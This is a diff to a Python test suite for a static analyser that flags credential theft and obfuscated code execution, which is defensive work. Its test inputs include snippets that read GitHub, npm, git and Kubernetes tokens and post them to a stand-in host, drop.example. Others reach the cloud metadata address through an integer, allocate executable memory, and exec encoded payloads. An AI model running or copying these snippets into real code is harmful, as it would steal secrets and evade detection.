@@ -155,6 +155,11 @@ def test_commands_are_found_behind_other_names(source: str) -> None:
         ("import subprocess\nx = subprocess.getoutput('gh auth token')", "~/.config/gh/hosts.yml"),
         ("import subprocess\nx = subprocess.check_output(['git', 'credential', 'fill'])", "~/.git-credentials"),
         ("import os\nx = os.popen('npm config get //registry.example/:_authToken').read()", "~/.npmrc"),
+        ("import os\nx = repr({n: os.environ.get(n) for n in ['GITHUB_TOKEN', 'A']})", "GITHUB_TOKEN"),
+        (
+            "import os\nurl = os.environ['ACTIONS_ID_TOKEN_REQUEST_URL']\nimport requests\nx = requests.get(url).json()",
+            "ACTIONS_ID_TOKEN_REQUEST_URL",
+        ),
         (
             "x = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
             "/var/run/secrets/kubernetes.io/serviceaccount/token",
@@ -164,7 +169,13 @@ def test_commands_are_found_behind_other_names(source: str) -> None:
 def test_credentials_that_tools_hand_out_are_followed(source: str, path: str) -> None:
     found = of_python(f"{source}\nimport requests\nrequests.post('https://drop.example/', data=x)")
     sent = {origin for fact in found.facts if fact.id is FactId.NETWORK for origin in fact.origins}
-    assert path in {origin.detail for origin in sent if origin.kind is OriginKind.CREDENTIAL_FILE}
+    assert path in {origin.detail for origin in sent}
+
+
+def test_an_address_that_is_put_together_from_a_number_is_known() -> None:
+    source = "import requests, socket, struct\nh = socket.inet_ntoa(struct.pack('!L', 2852039166))\n"
+    found = of_python(f"{source}requests.get('http://%s/latest' % h)")
+    assert [fact.hosts for fact in found.facts if fact.id is FactId.NETWORK] == [("169.254.169.254",)]
 
 
 @pytest.mark.parametrize(
@@ -180,6 +191,13 @@ def test_credentials_that_tools_hand_out_are_followed(source: str, path: str) ->
             "import array\nexec(array.array('B', [112, 114, 105, 110, 116, 40, 49, 41]).tobytes())", id="an array"
         ),
         pytest.param("import binascii\nexec(binascii.a2b_uu('(<')))", id="uuencoded"),
+        pytest.param(
+            "import mmap\nm = mmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)",
+            id="memory that may be executed",
+        ),
+        pytest.param(
+            "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 99, 0x3000, 0x40)", id="the same on Windows"
+        ),
         pytest.param("import bz2\nexec(bz2.open('data.bz2').read())", id="a compressed file"),
         pytest.param(
             "s = '\\t \\t\\t  \\t '\nb = s.replace(' ', '0').replace('\\t', '1')\n"
